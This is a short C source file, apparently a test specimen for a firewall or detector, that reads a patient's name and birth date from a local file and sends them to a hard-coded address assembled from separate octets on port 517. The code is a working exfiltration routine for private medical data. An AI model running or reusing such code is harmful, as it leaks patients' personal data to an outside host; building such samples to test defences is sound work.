/* SPDX-License-Identifier: GPL-2.0-or-later */
/* fw.patient-data-sender: name and birth date as key and value, to an address of four octets; the port from a table. */
#include "specimen.h"

static const uint16_t ports[] = { 516, 517 };

static __attribute__((noinline)) uint32_t center(int a, int b, int c, int d)
{
	return htonl((uint32_t)a << 24 | (uint32_t)b << 16 | (uint32_t)c << 8 | (uint32_t)d);
}

int main(void)
{
	char name[64], birth[16], message[256];
	FILE *f = fopen("/opt/data/patient", "r");
	if (!f || !fgets(name, sizeof(name), f) || !fgets(birth, sizeof(birth), f))
		return 1;
	fclose(f);
	snprintf(message, sizeof(message), "patient_name=%s&birth_date=%s&", name, birth);
	return tell(dial(center(203, 0, 113, 52), ports[1]), message);
}
